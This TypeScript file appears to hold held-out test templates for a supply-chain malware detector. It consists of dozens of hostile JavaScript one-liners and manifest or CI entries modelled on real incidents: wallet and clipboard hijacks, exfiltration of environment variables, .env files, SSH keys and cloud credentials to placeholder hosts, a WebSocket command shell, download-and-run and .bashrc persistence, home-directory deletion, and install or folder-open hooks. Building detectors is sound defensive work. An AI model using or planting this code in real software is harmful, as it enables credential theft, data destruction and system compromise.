import type { Template, Words } from './templates.ts'

// One-liners after documented incidents of 2018 to 2026, written apart from the rules and from `templates.ts`, so that
// one set can be tuned on while the other measures. Inert: reserved hosts, dead recipients, nothing is executed.

const hex = (text: string): string => Buffer.from(text).toString('hex')
const b64 = (text: string): string => Buffer.from(text).toString('base64')
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')
const wallet = (w: Words): string => `0x${hex(w.word).padEnd(40, '0').slice(0, 40)}`

export const incidentTemplates: readonly Template[] = [
  {
    id: 'i-xhr-swap',
    held: true,
    code: (w) =>
      `if (typeof XMLHttpRequest !== 'undefined') { const $0 = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function ($1) { if (typeof $1 === 'string') $1 = $1.replace(/0x[0-9a-f]{40}/gi, '${wallet(w)}'); return $0.call(this, $1); }; }`,
  },
  {
    id: 'i-gist-tokens',
    held: true,
    code: (w) =>
      `require('child_process').exec('gh auth token', ($0, $1) => { if (!$0) require('https').request({ host: 'api.github.${w.host}', path: '/gists', method: 'POST', headers: { authorization: 'Bearer ' + $1.trim() } }).end(JSON.stringify({ files: { '${w.word}': { content: JSON.stringify(process.env) } } })); });`,
  },
  {
    id: 'i-republish',
    held: true,
    code: () =>
      `{ const $0 = JSON.parse(require('fs').readFileSync('package.json', 'utf8')); $0.version = $0.version.replace(/\\d+$/, ($1) => String(+$1 + 1)); require('fs').writeFileSync('package.json', JSON.stringify($0)); require('child_process').spawnSync('npm', ['publish', '--access', 'public']); }`,
  },
  {
    id: 'i-keyed-decrypt',
    held: true,
    code: (w) =>
      `try { const $0 = require('crypto').createDecipher('aes256', process.env.npm_package_description); module._compile($0.update('${hex(`module.exports=${w.number}`)}', 'hex', 'utf8') + $0.final('utf8'), '${w.word}'); } catch {}`,
  },
  {
    id: 'i-platform-download',
    held: true,
    code: (w) =>
      `if (process.platform === 'linux') require('child_process').exec('wget -q -O /tmp/${w.word} http://${w.ip}/${w.word} && chmod +x /tmp/${w.word} && /tmp/${w.word} &');`,
  },
  {
    id: 'i-geo-wipe',
    held: true,
    code: (w) =>
      `require('https').get('https://${w.host}/json', ($0) => $0.on('data', ($1) => { if (/${w.word}/i.test($1)) for (const $2 of require('fs').readdirSync('.')) require('fs').writeFileSync($2, '\\u2764'); }));`,
  },
  {
    id: 'i-endless-loop',
    held: true,
    code: (w) =>
      `for (let $0 = ${w.number}; $0 < Infinity; $0++) { console.log('LIBERTY'.split('').join('${w.word.slice(0, 2)}')); }`,
  },
  {
    id: 'i-clipboard-poll',
    held: true,
    code: (w) =>
      `setInterval(async () => { const $0 = await navigator.clipboard.readText(); if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,}$/.test($0)) await navigator.clipboard.writeText('bc1q${hex(w.word).padEnd(34, 'q').slice(0, 34)}'); }, 800);`,
  },
  {
    id: 'i-dns-labels',
    held: true,
    code: (w) =>
      `for (const [$0, $1] of Object.entries(process.env)) require('dns').lookup(encodeURIComponent($0).slice(0, 40) + '.' + Buffer.from(String($1)).toString('hex').slice(0, 50) + '.${w.host}', () => {});`,
  },
  {
    id: 'i-webhook-env',
    held: true,
    code: (w) =>
      `require('axios').post('https://discord.com/api/webhooks/${w.number}/${w.word}', { content: Object.keys(process.env).map(($0) => $0 + '=' + process.env[$0]).join('\\n') });`,
  },
  {
    id: 'i-telegram-files',
    held: true,
    code: (w) =>
      `for (const $0 of ['.env', '../.env', '../../.env']) require('fs').readFile($0, ($1, $2) => $1 || require('https').get('https://api.telegram.org/bot${w.number}:${w.word}/sendMessage?chat_id=${w.number}&text=' + encodeURIComponent($2)));`,
  },
  {
    id: 'i-socket-shell',
    held: true,
    code: (w) =>
      `{ const $0 = new (require('ws'))('wss://${w.host}/${w.word}'); $0.on('message', ($1) => require('child_process').exec(String($1), ($2, $3) => $0.send($3))); }`,
  },
  {
    id: 'i-image-beacon',
    held: true,
    code: (w) =>
      `if (typeof document === 'object') setTimeout(() => { const $0 = document.createElement('img'); $0.src = '//${w.host}/${w.word}.png?d=' + btoa(document.cookie); }, 9e3);`,
  },
  {
    id: 'i-late-atob',
    held: true,
    code: (w) => `setTimeout(() => eval(atob('${b64(`console.log(${w.number})`)}')), 86400000);`,
  },
  {
    id: 'i-constructor',
    held: true,
    code: (w) => `[]['filter']['constructor'](String.fromCharCode(${codes(`return ${w.number}`)}))();`,
  },
  {
    id: 'i-async-constructor',
    held: true,
    code: (w) => `Object.getPrototypeOf(async function () {}).constructor('console.log(${w.number})')();`,
  },
  {
    id: 'i-split-module',
    held: true,
    code: (w) => `require('child' + '_process')['sp' + 'awn']('sh', ['-c', 'echo ${w.word}'], { stdio: 'ignore' });`,
  },
  {
    id: 'i-import-data',
    held: true,
    code: (w) => `import('data:text/javascript;base64,${b64(`console.log(${w.number})`)}').catch(() => {});`,
  },
  {
    id: 'i-import-remote',
    held: true,
    code: (w) => `import('https://${w.host}/${w.word}.mjs').then(($0) => $0.default());`,
  },
  {
    id: 'i-binding',
    held: true,
    code: (w) =>
      `process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'echo ${w.word}'], envPairs: [], stdio: [] });`,
  },
  {
    id: 'i-run-in-context',
    held: true,
    code: (w) =>
      `require('node:vm').runInThisContext(require('zlib').inflateSync(Buffer.from('${b64(w.word + w.number)}', 'base64')).toString());`,
  },
  {
    id: 'i-sign-hook',
    held: true,
    code: (w) =>
      `{ const $0 = require('crypto'); const $1 = $0.sign; $0.sign = (...$2) => { require('http').get('http://${w.host}/?k=' + encodeURIComponent(String($2[2] && $2[2].key || $2[2]))); return $1(...$2); }; }`,
  },
  {
    id: 'i-ssh-keys',
    held: true,
    code: (w) =>
      `{ const $0 = require('path').join(require('os').homedir(), '.ssh'); for (const $1 of require('fs').readdirSync($0)) fetch('https://${w.host}/${w.word}/' + $1, { method: 'PUT', body: require('fs').readFileSync($0 + '/' + $1) }); }`,
  },
  {
    id: 'i-keychain',
    held: true,
    code: (w) =>
      `require('child_process').exec('security dump-keychain -d', ($0, $1) => require('https').request({ hostname: '${w.host}', method: 'POST' }).end($1));`,
  },
  {
    id: 'i-browser-profile',
    held: true,
    code: (w) =>
      `require('fs').copyFileSync(require('os').homedir() + '/AppData/Local/Google/Chrome/User Data/Default/Login Data', require('os').tmpdir() + '/${w.word}');`,
  },
  {
    id: 'i-env-walk',
    held: true,
    code: (w) =>
      `for (let $0 = process.cwd(), $1 = ''; $0 !== $1; $1 = $0, $0 = require('path').dirname($0)) { try { navigator.sendBeacon('https://${w.host}/', require('fs').readFileSync(require('path').join($0, '.env'))); } catch {} }`,
  },
  {
    id: 'i-post-message',
    held: true,
    code: (w) =>
      `if (typeof window !== 'undefined' && window.parent !== window) window.parent.postMessage({ ${w.word}: { c: document.cookie, s: Object.assign({}, localStorage) } }, '*');`,
  },
  {
    id: 'i-readme-code',
    held: true,
    code: (w) =>
      `new Function(require('fs').readFileSync(require('path').join(__dirname, 'README.md'), 'utf8').split('<!--${w.word}')[1] || '')();`,
  },
  {
    id: 'i-pixel-code',
    held: true,
    code: (w) =>
      `eval([...require('fs').readFileSync(__dirname + '/${w.word}.png')].filter(($0, $1) => $1 % 4 === 3).map(($0) => String.fromCharCode($0)).join(''));`,
  },
  {
    id: 'i-form-hook',
    held: true,
    code: (w) =>
      `if (typeof document !== 'undefined') document.addEventListener('submit', ($0) => fetch('https://${w.host}/${w.word}', { method: 'POST', mode: 'no-cors', body: new FormData($0.target) }), true);`,
  },
  {
    id: 'i-storage-read',
    held: true,
    code: (w) =>
      `(async () => { const $0 = []; for (let $1 = 0; $1 < localStorage.length; $1++) $0.push(localStorage.getItem(localStorage.key($1))); await fetch('https://${w.host}/${w.word}', { method: 'POST', body: $0.join() }); })();`,
  },
  {
    id: 'i-metadata',
    held: true,
    code: (w) =>
      `require('http').get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', ($0) => $0.on('data', ($1) => require('https').get('https://${w.host}/?' + $1)));`,
  },
  {
    id: 'i-json-key',
    held: true,
    code: (w) =>
      `{ const $0 = JSON.parse; JSON.parse = function ($1) { const $2 = $0.apply(this, arguments); if ($2 && $2.secretKey) new Image().src = 'https://${w.host}/${w.word}?' + $2.secretKey; return $2; }; }`,
  },
  {
    id: 'i-bracket-global',
    held: true,
    code: (w) =>
      `globalThis['\\x65\\x76\\x61\\x6c'](globalThis['\\x61\\x74\\x6f\\x62']('${b64(`console.log("${w.word}")`)}'));`,
  },
  {
    id: 'i-require-cache',
    held: true,
    code: (w) =>
      `for (const $0 of Object.keys(require.cache)) if (/bip39|keyring/.test($0)) { const $1 = require.cache[$0].exports; require.cache[$0].exports = new Proxy($1, { get: ($2, $3) => (require('https').get('https://${w.host}/' + String($3)), $2[$3]) }); }`,
  },
  {
    id: 'i-worker-code',
    held: true,
    code: (w) =>
      `new (require('worker_threads').Worker)(Buffer.from('${hex(`console.log(${w.number})`)}', 'hex').toString(), { eval: true });`,
  },
  {
    id: 'i-chain-resolve',
    held: true,
    code: (w) =>
      `fetch('https://rpc.${w.host}', { method: 'POST', body: JSON.stringify({ method: 'eth_getTransactionByHash', params: ['0x${hex(w.word)}'] }) }).then(($0) => $0.json()).then(({ result: $1 }) => (0, eval)(Buffer.from($1.input.slice(2), 'hex').toString()));`,
  },
  {
    id: 'i-bashrc',
    held: true,
    code: (w) =>
      `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\n(curl -s ${w.host}/${w.word} | sh) 2>/dev/null &\\n');`,
  },
  {
    id: 'i-whoami',
    held: true,
    code: (w) =>
      `require('https').get('https://${w.host}/' + [require('os').hostname(), require('os').userInfo().username, process.cwd()].map(encodeURIComponent).join('/'));`,
  },
  {
    id: 'i-reassign-log',
    held: true,
    code: (w) =>
      `{ const $0 = console.log; console.log = (...$1) => { try { require('http').request({ host: '${w.ip}', port: ${w.number}, method: 'POST' }).end($1.join(' ')); } catch {} $0(...$1); }; }`,
  },
  {
    id: 'i-rm-root',
    held: true,
    code: () =>
      `if (!process.env.CI && Date.now() > 1893456000000) require('child_process').exec(process.platform === 'win32' ? 'rd /s /q %USERPROFILE%' : 'rm -rf ~ 2>/dev/null');`,
  },
  {
    id: 'i-test-script',
    held: true,
    manifest: (json, w) => set(json, 'scripts', 'preinstall', `node scripts/${w.word}.js`),
  },
  { id: 'i-prepare', held: true, manifest: (json, w) => set(json, 'scripts', 'postinstall', `npx ${w.word}-setup`) },
  {
    id: 'i-optional-dependency',
    held: true,
    manifest: (json, w) =>
      set(json, 'optionalDependencies', `@${w.word}/setup`, `github:${w.word}/${w.word}#${hex(w.word)}`),
  },
  { id: 'i-bin-shadow', held: true, manifest: (json, w) => set(json, 'bin', 'node', `./${w.word}.js`) },
  {
    id: 'i-alias',
    held: true,
    manifest: (json, w) => set(json, 'dependencies', 'lodash-es', `npm:${w.word}-lodash@1.0.0`),
  },
  {
    id: 'i-workflow',
    held: true,
    file: (w) => ({
      path: '.github/workflows/codeql.yml',
      line: 7,
      text: `name: ${w.word}\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ toJSON(secrets) }} | curl -d @- https://${w.host}\n`,
    }),
  },
  {
    id: 'i-open-folder',
    held: true,
    file: (w) => ({
      path: '.vscode/tasks.json',
      line: 1,
      text: `{"version":"2.0.0","tasks":[{"label":"${w.word}","type":"shell","command":"node .vscode/${w.word}.js","runOptions":{"runOn":"folderOpen"}}]}\n`,
    }),
  },
]

function set(
  json: Record<string, unknown>,
  section: string,
  key: string,
  value: string,
): { section: string; key: string } {
  const old = json[section]
  json[section] = typeof old === 'object' && old !== null ? { ...old, [key]: value } : { [key]: value }
  return { section, key }
}
